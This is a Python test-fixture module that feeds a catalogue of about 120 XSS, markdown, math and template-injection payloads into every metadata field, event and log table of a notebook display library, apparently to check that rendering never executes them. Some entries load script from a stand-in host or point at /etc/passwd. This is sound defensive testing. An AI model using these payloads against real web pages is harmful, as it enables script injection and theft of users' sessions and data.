"""Texts that try to become more than text, and all the places where text may stand.

Each text calls `__opnb_ran(number)` if it gets to run, or fetches from a host that does
not exist; the browser suite listens for both. Nothing of opnb may tell them from words.
"""

from __future__ import annotations

import base64
import logging
from collections.abc import Iterator, Mapping
from typing import Any

import pandas as pd

from opnb import (
    AssetKey,
    AssetMaterialization,
    AssetObservation,
    CodeReferencesMetadataValue,
    ExpectationResult,
    Failure,
    LocalFileCodeReference,
    MetadataValue,
    Output,
    TableColumn,
    TableColumnConstraints,
    TableColumnDep,
    TableColumnLineage,
    TableConstraints,
    TableSchema,
    UrlCodeReference,
    graph,
    job,
    op,
)
from opnb.display.bundle import render_bundle
from opnb.display.live import BarView, LiveView, live_forms
from opnb.event_log.log import EventLog
from opnb.event_log.reading.lineage import read_all_lineage
from opnb.event_log.reading.run_diff import RunDiff
from opnb.event_log.reading.run_facts import Facts, RunFacts
from opnb.event_log.reading.shown_frames import OpsFrame, PlanFrame
from opnb.event_log.summary import RunSummary
from opnb.explorer.explorer import explore
from opnb.memo.listing import MemoFrame
from opnb.model.entry import (
    AssetObservationData,
    ErrorSource,
    EventLogEntry,
    EventType,
    HookErroredData,
    OutputSource,
    RunFailureData,
    RunStartData,
    SerializableErrorInfo,
    StepExpectationResultData,
    StepFailureData,
    StepInputData,
    StepMaterializationData,
    StepOutputData,
    StepRetryData,
    StepStartData,
    TypeCheckData,
    UserFailureData,
    ValueInfo,
)
from opnb.model.metadata import PythonArtifactMetadataValue
from opnb.model.op_inputs import OpInputs
from opnb.model.serialize import readable
from opnb.session import Session, use_session

HOST = "canary.invalid"
_TEMPLATES = r"""
script                <script>JS</script>
script from afar      <script src=//HOST/NO></script>
script in capitals    <ScRiPt>JS</sCrIpT>
half a script         <script JS
image                 <img src=x onerror=JS>
image, quoted         <img src="x" onerror="JS">
image, slashes        <img/src=x/onerror=JS>
image from afar       <img src=//HOST/NO>
image set             <img srcset="//HOST/NO 2x">
svg                   <svg onload=JS>
svg script            <svg><script>JS</script></svg>
svg animation         <svg><a><animate attributeName=href values=javascript:JS /><text y=9>x</text></a></svg>
svg use               <svg><use href="//HOST/NO#a"/></svg>
svg foreign           <svg><foreignObject><img src=x onerror=JS></foreignObject></svg>
svg style             <svg></p><style><a id="</style><img src=1 onerror=JS>">
mathml                <math><mtext><table><mglyph><style><img src=x onerror=JS>
mathml link           <math href="javascript:JS">x</math>
details               <details open ontoggle=JS><summary>x</summary></details>
body                  <body onload=JS>
input                 <input autofocus onfocus=JS>
video                 <video><source onerror=JS></video>
audio                 <audio src=x onerror=JS>
iframe                <iframe srcdoc="<script>JS</script>"></iframe>
iframe link           <iframe src=javascript:JS></iframe>
object                <object data="javascript:JS"></object>
embed                 <embed src=javascript:JS>
form                  <form action=javascript:JS><button>go</button></form>
button                <button onclick=JS>go</button>
command               <button data-commandlinker-command="filebrowser:create-new-file">go</button>
meta                  <meta http-equiv=refresh content="0;url=//HOST/NO">
base                  <base href=//HOST/NO>
stylesheet            <link rel=stylesheet href=//HOST/NO>
style import          <style>@import "//HOST/NO";</style>
style of all          </style><style>*{display:none}</style>
marquee               <marquee onstart=JS>x</marquee>
custom element        <x-y tabindex=1 onfocus=JS autofocus>x</x-y>
plaintext             <plaintext>
dialog                <dialog open>x</dialog>
noscript              <noscript><p title="</noscript><img src=x onerror=JS>">
template              <template><img src=x onerror=JS></template>
double quote          " onmouseover="JS
single quote          ' onmouseover='JS
no quote              x onmouseover=JS
end of tag            "><img src=x onerror=JS>
end of tag, single    '><img src=x onerror=JS>
alt                   x" onerror="JS" src="y
style attribute       " style="position:fixed;inset:0;background:url(//HOST/NO)
css value             red;background:url(//HOST/NO)
css rule              }*{background:url(//HOST/NO)}
css expression        width:expression(JS)
link                  <a href="javascript:JS">x</a>
javascript            javascript:JS
javascript, capitals  JaVaScRiPt:JS
javascript, spaces    %20javascript:JS
javascript, entity    &#106;avascript:JS
javascript, colon     javascript&colon;JS
javascript, comment   javascript://HOST/%0aJS
vbscript              vbscript:JS
data html             data:text/html,<script>JS</script>
data base64           data:text/html;base64,BASE64
data svg              data:image/svg+xml,<svg onload=JS>
view source           view-source:javascript:JS
file                  file:///etc/passwd
editor                vscode://file/etc/passwd
other host            //HOST/NO
other host, slashes   /\HOST/NO
markdown link         [x](javascript:JS)
markdown angle        [x](<javascript:JS>)
markdown entity       [x](&#106;avascript:JS)
markdown autolink     <javascript:JS>
markdown data         [x](data:text/html;base64,BASE64)
markdown image        ![x](//HOST/NO)
markdown image link   ![x](javascript:JS)
markdown title        [x](https://HOST "y" onmouseover="JS)
markdown quote        [x](https://HOST"onmouseover="JS)
markdown alt          ![" onerror="JS](data:image/png;base64,x)
markdown code         `</code><img src=x onerror=JS>`
markdown html         <div markdown="1"><img src=x onerror=JS></div>
table cell            | x | <img src=x onerror=JS> |
math                  $\href{javascript:JS}{x}$
math, round           \(\href{javascript:JS}{x}\)
math, display         $$\style{background:url(//HOST/NO)}{x}$$
math, square          \[\unicode{x3c}img src=x onerror=JS>\]
math, environment     \begin{equation}\href{javascript:JS}{x}\end{equation}
comment               --><script>JS</script><!--
comment, odd          --!><img src=x onerror=JS>
comment, open         <!--
cdata                 ]]><script>JS</script>
processing            <?xml version="1.0"?><script>JS</script>
end of fold           </summary></details></div><script>JS</script>
end of pre            </pre></code><script>JS</script>
end of table          </td></tr></table><script>JS</script>
end of all            </title></textarea></style></script></svg></math><script>JS</script>
template engine       {{ 7 * 7 }}{% raw %}{# x #}
template class        {{ ''.__class__.__mro__ }}
format                {0.__class__} %(x)s %s ${x}
utf-7                 +ADw-script+AD4-JS+ADw-/script+AD4-
entity                &lt;script&gt;JS&lt;/script&gt;
full width            ＜script＞JS＜/script＞
"""  # noqa: E501, RUF001 - a line a text
_SPECIAL = {
    "javascript, tab": "java\tscript:JS",
    "javascript, line": "java\nscript:JS",
    "javascript, control": "\x01javascript:JS",
    "javascript, nul": "java\x00script:JS",
    "markdown reference": "[x]\n\n[x]: javascript:JS",
    "markdown fence": "```\nx\n```\n<script>JS</script>",
    "markdown fence's language": '``` x" onmouseover="JS\ny\n```',
    "markdown table": "| a |\n|---|\n| <img src=x onerror=JS> |",
    "nul": "<scr\x00ipt>JS</scr\x00ipt>",
    "escape": "\x1b]8;;javascript:JS\x07x\x1b]8;;\x07\x1b[2J",
    "surrogate": "\ud800<script>JS</script>",
    "right to left": "\u202e<script>JS</script>\u2066",
    "no width": "<\u200bscript>JS</\u200bscript>",
    "line separator": "x\u2028<script>JS</script>\u2029y",
    "carriage return": "x\r\n<script>\rJS</script>",
    "byte order mark": "\ufeff<script>JS</script>",
    "many": "<b>" * 200,
}


def _payloads() -> dict[str, str]:
    lines = _TEMPLATES.strip().splitlines()
    templates = {line[:22].strip(): line[22:] for line in lines}
    return {
        name: _filled(text, number)
        for number, (name, text) in enumerate({**templates, **_SPECIAL}.items(), 1)
    }


def _filled(text: str, number: int) -> str:
    run = f"top.__opnb_ran({number})"
    page = base64.b64encode(f"<script>{run}</script>".encode()).decode()
    return (
        text.replace("BASE64", page)
        .replace("JS", run)
        .replace("HOST", HOST)
        .replace("NO", str(number))
    )


PAYLOADS = _payloads()


def metadata_with(text: str) -> Mapping[str, MetadataValue]:
    """Return a value of each kind that can hold a text, under labels that hold it."""
    schema = TableSchema(
        [TableColumn(text, text, text, TableColumnConstraints(other=[text]))],
        TableConstraints([text]),
    )
    lineage = TableColumnLineage({text: [TableColumnDep(AssetKey(text), text)]})
    kinds = {
        text: MetadataValue.text(text),
        "long": MetadataValue.text(text * (1 + 400 // len(text))),
        "lines": MetadataValue.text(f"{text}\n{text}"),
        "md": MetadataValue.md(text),
        "url": MetadataValue.url(text),
        "path": MetadataValue.path(text),
        "notebook": MetadataValue.notebook(text),
        "json": MetadataValue.json(text),
        "json tree": MetadataValue.json({text: [text] * 9, "x": {text: {text: text}}}),
        "table": MetadataValue.table([{text: text}], schema),
        # Arrow's texts take no lone surrogate.
        "frame": pd.DataFrame(
            [[text]], columns=pd.Index([text], dtype=object), dtype=object
        ),
        "schema": MetadataValue.table_schema(schema),
        "lineage": MetadataValue.column_lineage(lineage),
        "job": MetadataValue.job(text, text, repository_name=text),
        "artifact": PythonArtifactMetadataValue(text, text),
        "run": MetadataValue.dagster_run(text),
        "asset": MetadataValue.asset(AssetKey([text, text])),
        "pool": MetadataValue.pool(text),
        "code": CodeReferencesMetadataValue(
            code_references=[
                LocalFileCodeReference(file_path=text, line_number=1, label=text),
                UrlCodeReference(url=text, label=text),
            ]
        ),
        "image": MetadataValue.image(_drawing(text), alt=text),
        "redacted": MetadataValue.redacted(text, reason=text),
        "bytes": MetadataValue.bytes(text.encode("utf-8", "surrogatepass")),
        # What holds no text, so that no kind is left out.
        "number": MetadataValue.int(3),
        "float": MetadataValue.float(0.5),
        "bool": MetadataValue.bool(True),
        "null": MetadataValue.null(),
        "timestamp": MetadataValue.timestamp(0.0),
    }
    return Output(1, metadata=kinds).metadata


def _drawing(text: str) -> bytes:
    """Return an SVG of a user's own, which holds the text as markup."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    return f"{head}{text}</svg>".encode("utf-8", "replace")


def events_with(text: str) -> list[Any]:
    """Return the events, keys and schemas that hold the text wherever text may be."""
    metadata = metadata_with(text)
    key = AssetKey([text, text])
    schema = metadata["schema"].value
    return [
        Output(1, metadata=metadata),
        AssetMaterialization(key, text, metadata, text),
        AssetObservation(key, text, {text: text}, text),
        ExpectationResult(False, text, text, {text: text}),
        ExpectationResult(True, text, text),
        key,
        schema,
        metadata["lineage"].value,
    ]


def entries_with(text: str, run_id: str = "hostile") -> list[EventLogEntry]:
    """Return the entries of a run that another program wrote: all of it is the text.

    No op of opnb's could have such a name.
    """
    metadata = {text: MetadataValue.text(text)}
    inner = SerializableErrorInfo(text, _stack(text), text)
    error = SerializableErrorInfo(text, _stack(text), text, inner)
    check = TypeCheckData(False, text, text, metadata)
    value = ValueInfo(text, (3, 4))
    source = OutputSource(text, text, run_id)
    failure = UserFailureData(text, text, metadata)
    key = AssetKey([text])
    earlier, later = (
        AssetMaterialization(key, text, {**metadata_with(text), "number": n}, p)
        for n, p in ((3, None), (5, text))
    )
    events: list[tuple[EventType, Any]] = [
        (EventType.STEP_START, StepStartData(text, text, None, {text: text})),
        (EventType.STEP_INPUT, StepInputData(text, check, value, source)),
        (EventType.LOG_MESSAGE, None),
        (EventType.ASSET_MATERIALIZATION, StepMaterializationData(earlier)),
        (EventType.ASSET_MATERIALIZATION, StepMaterializationData(later)),
        (
            EventType.ASSET_OBSERVATION,
            AssetObservationData(AssetObservation(key, text, metadata, text)),
        ),
        (
            EventType.STEP_EXPECTATION_RESULT,
            StepExpectationResultData(ExpectationResult(False, text, text, metadata)),
        ),
        (EventType.STEP_UP_FOR_RETRY, StepRetryData(error)),
        (EventType.STEP_RESTARTED, None),
        (
            EventType.STEP_OUTPUT,
            StepOutputData(text, check, metadata, value, text, text, text),
        ),
        (EventType.HOOK_ERRORED, HookErroredData(error)),
        (
            EventType.STEP_FAILURE,
            StepFailureData(error, failure, ErrorSource.USER_CODE_ERROR),
        ),
    ]
    whole = [
        (EventType.RUN_START, RunStartData({text: text, "x": text})),
        (EventType.RUN_FAILURE, RunFailureData(error, (text,))),
    ]
    entries = [
        EventLogEntry(kind, run_id, text, 1.5, text, text, logging.WARNING, text, data)
        for kind, data in events
    ]
    start, end = (
        EventLogEntry(kind, run_id, text, 1.5, message=text, event_specific_data=data)
        for kind, data in whole
    )
    return [start, *entries, end]


def _stack(text: str) -> tuple[str, ...]:
    return (f'  File "{text}", line 3, in {text}\n    {text}\n',)


def definitions_with(text: str) -> list[Any]:
    """Return an op, a graph and a job that the text describes."""

    @op(description=text, tags={"team": "x"})
    def hostile(context):  # type: ignore[no-untyped-def]
        context.log.warning(text)
        yield from events_with(text)[1:5]
        raise Failure(text, metadata={text: text})

    @op
    def after(anything):  # type: ignore[no-untyped-def]
        return anything

    @graph(description=text, tags={"team": "x"})
    def within():  # type: ignore[no-untyped-def]
        return after(hostile())

    @job(description=text, tags={"team": "x"})
    def nightly():  # type: ignore[no-untyped-def]
        after.alias("again")(within())

    return [hostile, within, nightly]


def runs_with(session: Session, text: str) -> Iterator[RunSummary]:
    """Run what the text describes in a session; yield what is told of it."""
    hostile, _, nightly = definitions_with(text)
    yield session.execute_op(hostile, raise_on_error=False).summary
    yield session.execute_job(nightly, raise_on_error=False).summary
    stale = RunSummary.of(entries_with(text))
    stale.stale = (text, text)
    yield stale
    mapped = entries_with(text)
    for entry in mapped[1:-1]:
        entry.step_key = f"{text}[{text}]"
    yield RunSummary.of(mapped)


def log_with(text: str) -> EventLog:
    """Return a log of two runs that another program wrote."""
    log = EventLog("memory:")
    log.append(entries_with(text, "earlier"))
    log.append(entries_with(text, "hostile"))
    return log


def tables_with(text: str) -> list[Any]:
    """Return what a log of such runs shows of itself."""
    log = log_with(text)
    return [
        log.asset(AssetKey([text])),
        log.assets(),
        log.runs(),
        log.checks(),
        log.timeline(),
        read_all_lineage(log, [text]),
        _indexed(OpsFrame, text),
        _indexed(PlanFrame, text),
        # No op is called what no database takes: its name is an identifier.
        *([log.diff(text)] if readable(text) == text else []),
        diff_with(text),
        OpInputs(text, {text: 1}, {text: ValueInfo(text)}, {text: source_with(text)}),
        memo_with(text),
    ]


def _indexed(kind: type[Any], text: str) -> Any:
    """Return a frame of ops, each of its cells the text, as pandas takes it."""
    text = readable(text)
    index = pd.Index([text], name="op")
    return kind(dict.fromkeys(kind.SHOWN, text), index=index)


def source_with(text: str) -> OutputSource:
    """Return where an input came from."""
    return OutputSource(text, text, "hostile")


def diff_with(text: str) -> RunDiff:
    """Return two runs that differ in all that can be told of them."""
    facts: Facts = {
        ("run", text, "error"): text,
        ("code", text, "version"): "1",
        ("tag", text, ""): text,
        ("config", text, ""): "1",
        ("input", text, "value"): ValueInfo(text),
        ("input", text, "source"): text,
        ("metadata", text, text): MetadataValue.text(text),
        ("check", text, ""): "passed",
        ("duration", text, "seconds"): 1.0,
    }
    before = RunFacts("a", text, facts)
    return RunDiff(text, before, RunFacts("b", f"{text}\n{text}", {}))


def memo_with(text: str) -> MemoFrame:
    """Return what a memo tells of the outputs of one run, as pandas takes it."""
    text = readable(text)
    moment = pd.Timestamp(1.5, unit="s", tz="UTC")
    return MemoFrame([[text, text, 10, moment, moment, text]], columns=MemoFrame.SHOWN)


def live_with(text: str) -> LiveView:
    """Return the view of a run that goes on."""
    bar = BarView(text, 0, 3, 9, 2.0, 3.0)
    return LiveView(text, (text,), ("3 checks",), (bar,), 0, text, 4.0)


def everything_with(text: str) -> Iterator[tuple[Any, dict[str, str]]]:
    """Yield all that can be drawn and holds the text, each with its forms."""
    things = [
        *metadata_with(text).values(),
        *events_with(text),
        *definitions_with(text),
        *entries_with(text),
        *runs_with(use_session(Session("memory:")), text),
        *tables_with(text),
    ]
    yield from _drawn(things, text)


def a_few_with(text: str) -> Iterator[dict[str, str]]:
    """Yield the forms of what brings all templates and all kinds of metadata along."""
    written, job = events_with(text)[1], definitions_with(text)[2]
    things = [written, RunSummary.of(entries_with(text)), job, *tables_with(text)]
    for _, forms in _drawn(things, text):
        yield forms


def _drawn(things: list[Any], text: str) -> Iterator[tuple[Any, dict[str, str]]]:
    for thing in things:
        yield thing, render_bundle(thing)[0]
    live = live_with(text)
    yield live, live_forms(live)
    explorer = explore(log_with(text), live=False)
    yield explorer, explorer._repr_mimebundle_()
